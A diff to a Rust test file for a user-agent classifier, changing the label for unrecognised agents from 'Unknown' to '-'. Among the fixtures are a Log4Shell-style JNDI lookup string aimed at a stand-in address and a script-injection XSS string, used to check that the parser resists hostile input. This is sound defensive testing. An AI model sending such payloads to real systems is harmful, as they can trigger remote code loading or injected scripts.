@@ -2,7 +2,7 @@ use super::markers::Markers;
 use super::*;
 use std::collections::BTreeSet;
 
-/// Agents as programs send them, with family and class.
+/// Agents in the forms that programs send, with family and class.
 const AGENTS: &[(&str, &str, &str)] = &[
     // Browsers.
     (
@@ -152,13 +152,13 @@ const AGENTS: &[(&str, &str, &str)] = &[
     ("Fuzz Faster U Fool v2.1.0-dev", "ffuf", "scanner"),
     ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Censys", "scanner"),
     // Nothing of these.
-    ("", "Unknown", "unknown"),
-    ("-", "Unknown", "unknown"),
-    ("Mozilla/5.0", "Unknown", "unknown"),
+    ("", "-", "unknown"),
+    ("-", "-", "unknown"),
+    ("Mozilla/5.0", "-", "unknown"),
     ("Spotify/124500512 Linux/0 (PC desktop)", "Spotify", "unknown"),
     ("TotallyNew Thing/3.1", "TotallyNew Thing", "unknown"),
-    ("${jndi:ldap://198.51.100.9/a}", "Unknown", "unknown"),
-    ("<script>alert(1)</script>/1", "Unknown", "unknown"),
+    ("${jndi:ldap://198.51.100.9/a}", "-", "unknown"),
+    ("<script>alert(1)</script>/1", "-", "unknown"),
 ];
 
 #[test]
@@ -201,6 +201,6 @@ fn what_is_made_to_hurt_is_answered_at_once() {
         agent(&megabyte(unit));
     }
     assert_eq!(&*agent(&[&b"curl/8.5.0 "[..], &megabyte(b"sqlmap ")[1000..]].concat()).family, "sqlmap");
-    assert_eq!(&*agent(&[b' '; 2000]).family, "Unknown");
+    assert_eq!(&*agent(&[b' '; 2000]).family, "-");
     assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
 }
